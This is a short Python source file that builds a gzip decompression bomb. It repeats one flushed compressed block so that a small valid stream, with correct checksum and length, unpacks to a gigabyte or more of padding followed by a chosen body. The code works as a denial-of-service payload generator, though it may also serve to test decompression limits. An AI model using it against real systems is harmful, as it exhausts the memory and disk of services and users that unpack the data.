"""A gzip stream that is small on the wire and huge unpacked."""

import struct
import zlib

BLOCK_BYTES = 1 << 20
DEFAULT_BOMB_BYTES = 1 << 30
GZIP_HEADER = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"


def make_bomb(body: bytes, padding: bytes, size: int) -> bytes:
    """One valid gzip member: ``size`` bytes or a little more of padding, and then the body.

    A block that ends in a full flush refers to nothing before it, so one compressed block is repeated as it is.
    """
    block = padding * (BLOCK_BYTES // len(padding))
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    packed_block = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    blocks = -(-size // len(block))
    checksum = 0
    for _ in range(blocks):
        checksum = zlib.crc32(block, checksum)
    checksum = zlib.crc32(body, checksum)
    total = blocks * len(block) + len(body)
    packed_body = packer.compress(body) + packer.flush()
    return GZIP_HEADER + packed_block * blocks + packed_body + struct.pack("<II", checksum, total & 0xFFFFFFFF)
